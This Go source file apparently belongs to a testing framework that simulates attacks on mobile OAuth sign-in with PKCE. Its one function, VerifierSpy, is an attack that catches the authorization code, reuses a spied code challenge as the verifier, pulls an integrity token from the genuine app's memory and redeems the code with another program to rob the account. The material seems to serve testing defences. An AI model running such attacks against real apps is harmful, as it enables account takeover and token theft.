package appside

import (
	"context"
	"errors"
	"slices"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/mechanism/pkce"
	"keyladder/stages/protect"
)

// VerifierSpy catches the code as the others do, and has seen the request for it as well: a spy in
// the victim's user agent tells the addresses that it goes through, and in the first stands what the
// code is bound to. Where that is the verifier itself, it can be shown with the code. The token that proves the
// app lies in the memory of the genuine one on the attacker's phone, and is good for a program of the
// attacker's own as long as it lives.
//
//keyladder:code attack-verifier-spy
func VerifierSpy(ctx context.Context, g *attack.Given) (attack.Result, error) {
	var addresses []string
	link, err := hijack(ctx, g, func(ctx context.Context) (err error) {
		addresses, err = g.Spied.SignsIn(ctx)
		return err
	})
	if err != nil {
		return attack.Result{}, err
	}
	response := protect.Response{Code: parameter(link, "code")}
	if response.Code == "" {
		return attack.Result{}, errors.New("there is no code in the link that was caught")
	}
	method := ""
	for _, address := range addresses {
		if challenge := parameter(address, pkce.FieldChallenge); challenge != "" {
			response.Verifier, method = challenge, parameter(address, pkce.FieldMethod)
		}
	}
	if response.Verifier == "" {
		g.Say("The spy in the user agent saw %d addresses, and no code challenge in any.", len(addresses))
	} else {
		g.Say("The spy in the user agent saw the request: its code challenge was made by the method %q. Try it as the verifier.", method)
	}
	phone, found, err := g.Hook(ctx)
	if err != nil {
		return attack.Stopped(err)
	}
	defer phone.Close()
	tries, err := g.Identities(append(found.OfApp(), &found.Integrity, &found.Attestations)...)
	if err != nil {
		return attack.Result{}, err
	}
	if len(found.Integrity) == 0 || len(tries) == 0 {
		return attack.Result{}, errors.New("no client integrity token was found in the app's memory")
	}
	stolen := slices.DeleteFunc([]string{response.Code, response.Verifier, tries[0].Integrity}, func(text string) bool { return text == "" })
	p, err := attack.NewProgram(g, tries[0])
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	if err = p.Redeem(ctx, response); err == nil {
		g.Say("Exchanged the code for an access token, with a program that is not the app.")
		err = p.Rob(ctx)
	}
	if err != nil {
		result, err := attack.Stopped(err)
		result.Stolen = stolen
		return result, err
	}
	return attack.Result{Claim: true, Stolen: stolen}, g.SpendLoot(ctx, p.Use)
}
